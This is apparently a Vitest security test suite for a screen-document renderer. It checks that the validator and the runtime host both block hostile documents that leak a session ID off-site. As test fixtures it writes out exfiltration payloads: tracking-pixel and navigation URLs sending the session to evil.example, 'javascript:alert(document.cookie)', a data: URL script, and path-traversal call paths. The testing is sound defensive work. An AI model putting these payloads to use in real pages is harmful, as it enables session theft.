// What a screen document may send off-site (issue 20 §4). Each route by which hostile documents
// that passed the checker sent the session or the borrower off-site is tried twice: the checker
// (the code behind screens:check, the studio and the server's save) refuses the document, and the
// engine with the real host refuses it at run time, for a document that arrives unchecked.
import { act, fireEvent, render, screen, waitFor } from '@testing-library/react';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import { Screen } from '../../../renderer/Screen';
import type { ScreenDocument } from '../../../renderer/types.gen';
import { checkDocument } from '../../../renderer/validate/crossref';
import { validateScreenDocument } from '../../../renderer/validate/validateDocument';
import { DEFAULT_CONFIG } from '../../../src/config/load';
import { urlPolicyOf } from '../../../src/config/origins';
import { createHost } from '../../../src/host/createHost';
import type { BridgeHostWindow } from '../../../src/host/bridge';
import { fakeNetwork } from '../host/fakeNetwork';

const SESSION = 'SECRET-SESSION-42';
const ORIGIN = 'https://app.example';
const URLS = urlPolicyOf(DEFAULT_CONFIG);

const doc = (body: unknown[], extra: Record<string, unknown> = {}): ScreenDocument =>
  ({
    schemaVersion: 1,
    id: 'hostile',
    title: 'Hostile',
    params: ['sessionId'],
    body,
    ...extra,
  }) as ScreenDocument;

const tap = (onTap: unknown[]) => ({ type: 'button', label: 'Go', onTap });

/** The checker's errors for a document the schema accepts. */
function checkerErrors(d: ScreenDocument): string[] {
  const schema = validateScreenDocument(d);
  if (!schema.ok) return schema.errors.map((e) => `${e.pointer} ${e.message}`);
  return checkDocument(d, { urls: URLS })
    .filter((e) => e.severity !== 'warning')
    .map((e) => `${e.pointer} ${e.message}`);
}

/** The real host on a page of ORIGIN opened with the session in its URL; location and network recorded. */
function appHost(reply: (url: string) => unknown = () => ({ success: true, data: {} })) {
  const location = {
    href: `${ORIGIN}/page?sessionId=${SESSION}&deviceId=DEVICE-77`,
    origin: ORIGIN,
    search: `?sessionId=${SESSION}&deviceId=DEVICE-77`,
    hash: '',
    assign: vi.fn(),
    replace: vi.fn(),
  };
  const win = new Proxy(window, {
    get: (target, key) => (key === 'location' ? location : Reflect.get(target, key)),
  });
  const net = fakeNetwork((req) => ({ body: reply(req.url) }));
  const host = createHost({ config: DEFAULT_CONFIG, win, fetch: net.fetch });
  const toasts: string[] = [];
  vi.spyOn(host, 'toast').mockImplementation((text) => void toasts.push(text));
  return { host, location, net, toasts };
}

async function show(d: ScreenDocument, host: ReturnType<typeof appHost>['host']) {
  await act(async () => {
    render(<Screen doc={d} host={host} params={{ sessionId: SESSION }} setTitle={false} />);
  });
}

/** Every address the page holds or tried: attributes of the DOM, navigations, requests, bridge calls. */
function leaked(app: ReturnType<typeof appHost>): string[] {
  const attrs = [...document.querySelectorAll('[src],[href]')].map(
    (e) => e.getAttribute('src') ?? e.getAttribute('href') ?? '',
  );
  const navigations = [...app.location.assign.mock.calls, ...app.location.replace.mock.calls].map((c) =>
    String(c[0]),
  );
  const bridge = JSON.stringify((window as unknown as BridgeHostWindow).__bridgeLog ?? []);
  return [...attrs, ...navigations, ...app.net.sent.map((r) => r.url), bridge].filter(
    (u) => u.includes('evil.example') || u.includes(SESSION) || /javascript:/i.test(u),
  );
}

beforeEach(() => {
  delete (window as unknown as BridgeHostWindow).__bridgeLog;
  vi.spyOn(console, 'warn').mockImplementation(() => undefined);
});
afterEach(() => vi.restoreAllMocks());

describe('an https image pixel with {params.sessionId} in its URL', () => {
  const pixel = (src: unknown) =>
    doc([
      { type: 'image', src, alt: '' },
      { type: 'text', text: 'Hello' },
    ]);
  const forms = [
    { t: 'https://evil.example/p.gif?s={params.sessionId}' },
    { concat: ['https://', 'evil.example/p.gif?s=', { $: 'params.sessionId' }] },
    { join: [['HTTPS://EVIL.EXAMPLE', 'p.gif'], '/'] },
    { or: [{ $: 'data.logo' }, 'https://evil.example/p.gif'] },
  ];

  it.each(forms)('the checker refuses %j', (src) => {
    expect(checkerErrors(pixel(src)).join('\n')).toMatch(
      /sends the borrower or a request to https:\/\/evil\.example, which is not this app's origin nor one listed in allowedOrigins/,
    );
  });

  it.each(forms)('the engine loads no picture from %j', async (src) => {
    const app = appHost();
    await show(pixel(src), app.host);
    expect(screen.getByText('Hello')).toBeTruthy();
    expect(document.querySelectorAll('img')).toHaveLength(0);
    expect(leaked(app)).toEqual([]);
  });

  it('a picture from an allowed origin, or this one, still shows', async () => {
    const app = appHost();
    await show(
      doc([
        { type: 'image', src: '/img/logo.svg', alt: 'own' },
        { type: 'image', src: 'https://play.google.com/badge.png', alt: 'allowed' },
      ]),
      app.host,
    );
    expect(screen.getByRole('img', { name: 'own' })).toBeTruthy();
    expect(screen.getByRole('img', { name: 'allowed' })).toBeTruthy();
  });
});

// Issue 28 item 3: the same on an origin the configuration lists (play.google.com, for the store
// links). Listing an origin lets pictures load from it; it never lets the session go there.
describe('a pixel on a listed origin carrying the session or the device id', () => {
  const forms = [
    { t: 'https://play.google.com/p.gif?sid={params.sessionId}' },
    { concat: ['https://play.google.com/p.gif?d=', { $: 'params.deviceId' }] },
    { t: 'https://play.google.com/p.gif?sid={computed.sid}' },
  ];
  const pixel = (src: unknown) =>
    doc(
      [
        { type: 'image', src, alt: '' },
        { type: 'text', text: 'Hello' },
      ],
      {
        params: ['sessionId', 'deviceId'],
        computed: { sid: { type: 'text', value: { $: 'params.sessionId' } } },
      },
    );

  it.each(forms)('the checker refuses %j', (src) => {
    expect(checkerErrors(pixel(src)).join('\n')).toMatch(
      /puts params\.(sessionId|deviceId)|computed\.sid, from params\.sessionId/,
    );
  });

  it.each(forms)('the engine with the real host loads no picture from %j', async (src) => {
    const app = appHost();
    await act(async () => {
      render(
        <Screen
          doc={pixel(src)}
          host={app.host}
          params={{ sessionId: SESSION, deviceId: 'DEVICE-77' }}
          setTitle={false}
        />,
      );
    });
    // Computed values come with the language's chunk, a moment later.
    await screen.findByText('Hello');
    expect(document.querySelectorAll('img')).toHaveLength(0);
    expect(leaked(app)).toEqual([]);
    expect(document.body.innerHTML).not.toContain('DEVICE-77');
  });
});

describe('a navigation carrying the common query to a foreign origin', () => {
  const routes = [
    {
      do: 'navigate',
      to: 'https://evil.example/x',
      commonParams: true,
      query: { s: { $: 'params.sessionId' } },
    },
    { do: 'navigate', to: { t: 'https://evil.example/x?s={params.sessionId}' } },
    { do: 'navigate', to: 'https://evil.example/x', commonParams: 'anyOrigin' },
  ];

  it.each(routes)('the checker refuses %j', (action) => {
    expect(checkerErrors(doc([tap([action])])).join('\n')).toMatch(/evil\.example|anyOrigin/);
  });

  it('"anyOrigin" needs the address straight from the reply, not from params or a form', () => {
    const action = { do: 'navigate', to: { $: 'params.next' }, commonParams: 'anyOrigin' };
    expect(checkerErrors(doc([tap([action])]))).toEqual([
      expect.stringMatching(/commonParams .*'to' must be read straight from the call's reply/),
    ]);
  });

  it.each(routes)('the engine goes nowhere for %j, and says so', async (action) => {
    const app = appHost();
    await show(doc([tap([action])]), app.host);
    fireEvent.click(screen.getByRole('button', { name: 'Go' }));
    await waitFor(() => expect(app.toasts).toEqual(['This link cannot be opened']));
    expect(leaked(app)).toEqual([]);
  });

  it('an address the server sent (a payment page) opens, without the session', async () => {
    const app = appHost(() => ({
      success: true,
      data: { payUrl: 'https://pay.partner.example/checkout?ref=9' },
    }));
    const call = {
      do: 'call',
      api: 'v3',
      path: '/v3/pay',
      then: [
        {
          do: 'navigate',
          to: { $: 'result.data.payUrl' },
          commonParams: true,
          query: { s: { $: 'params.sessionId' }, amount: '1700' },
        },
      ],
    };
    await show(doc([tap([call])]), app.host);
    fireEvent.click(screen.getByRole('button', { name: 'Go' }));
    await waitFor(() => expect(app.location.assign).toHaveBeenCalledTimes(1));
    expect(app.location.assign).toHaveBeenCalledWith(
      'https://pay.partner.example/checkout?ref=9&amount=1700',
    );
  });
});

describe('a third-party iframe', () => {
  const frame = doc([
    {
      type: 'iframe',
      src: { t: 'https://evil.example/frame?s={params.sessionId}' },
      title: 'Offer',
      sandbox: ['allow-scripts', 'allow-same-origin'],
    },
  ]);

  it('the checker refuses the origin and allow-same-origin', () => {
    const errors = checkerErrors(frame).join('\n');
    expect(errors).toMatch(/sends the borrower or a request to https:\/\/evil\.example/);
    expect(errors).toMatch(/'allow-same-origin' is never granted/);
  });

  it('the engine frames nothing', async () => {
    const app = appHost();
    await show(frame, app.host);
    expect(await screen.findByText('This content cannot be shown')).toBeTruthy();
    expect(document.querySelectorAll('iframe')).toHaveLength(0);
    expect(leaked(app)).toEqual([]);
  });
});

describe("a javascript: URL handed to the native bridge's openPage", () => {
  const routes = [
    { do: 'bridge', name: 'openPage', payload: { url: 'javascript:alert(document.cookie)' } },
    { do: 'bridge', name: 'openPageSingle', payload: ' JaVaScRiPt:alert(1)' },
    { do: 'bridge', name: 'openPage', payload: { url: { t: 'https://evil.example/?s={params.sessionId}' } } },
    { do: 'bridge', name: 'openPage', payload: { url: 'otherapp://steal' } },
  ];

  it.each(routes)('the checker refuses %j', (action) => {
    expect(checkerErrors(doc([tap([action])])).join('\n')).toMatch(
      /native openPage(Single)? would get|sends the borrower or a request to https:\/\/evil\.example/,
    );
  });

  it.each(routes)('the engine hands nothing to the native side for %j', async (action) => {
    const app = appHost();
    await show(doc([tap([action])]), app.host);
    fireEvent.click(screen.getByRole('button', { name: 'Go' }));
    await waitFor(() => expect(app.toasts).toEqual(['This link cannot be opened']));
    expect((window as unknown as BridgeHostWindow).__bridgeLog ?? []).toEqual([]);
    expect(leaked(app)).toEqual([]);
  });

  it('the host refuses it too, whoever asks', async () => {
    const app = appHost();
    await app.host.bridge('openPage', { url: 'javascript:alert(1)' });
    await app.host.bridge('openPage', 'data:text/html,<script>alert(1)</script>');
    expect((window as unknown as BridgeHostWindow).__bridgeLog ?? []).toEqual([]);
    await app.host.bridge('openPage', { url: 'pesoquick://product/detail?productId=P-2' });
    await app.host.bridge('openPage', { url: 'https://pay.partner.example/x' });
    expect((window as unknown as BridgeHostWindow).__bridgeLog).toHaveLength(2);
  });
});

describe('a call path that is not a relative API path', () => {
  const routes = ['//evil.example/x', '/v3/../..//evil.example', '/v3//evil.example/x', '/./x'];
  const calling = (path: string) => doc([], { sources: [{ do: 'call', api: 'v3', path, optional: true }] });

  it.each(routes)('the schema refuses %j', (path) => {
    expect(checkerErrors(calling(path)).join('\n')).toMatch(/path/);
  });

  it.each(routes)('the host sends nothing for %j', async (path) => {
    const app = appHost();
    await show(calling(path), app.host);
    expect(app.net.sent).toEqual([]);
    const result = await app.host.request({ api: 'v3', method: 'POST', path }, new AbortController().signal);
    expect(result).toMatchObject({ ok: false });
    expect(app.net.sent).toEqual([]);
  });

  it('the real paths still pass', () => {
    expect(checkerErrors(calling('/api/v2/youmi/service/channel/channel-template'))).toEqual([]);
    expect(checkerErrors(calling('/v3/loan-details/loan-details'))).toEqual([]);
  });
});
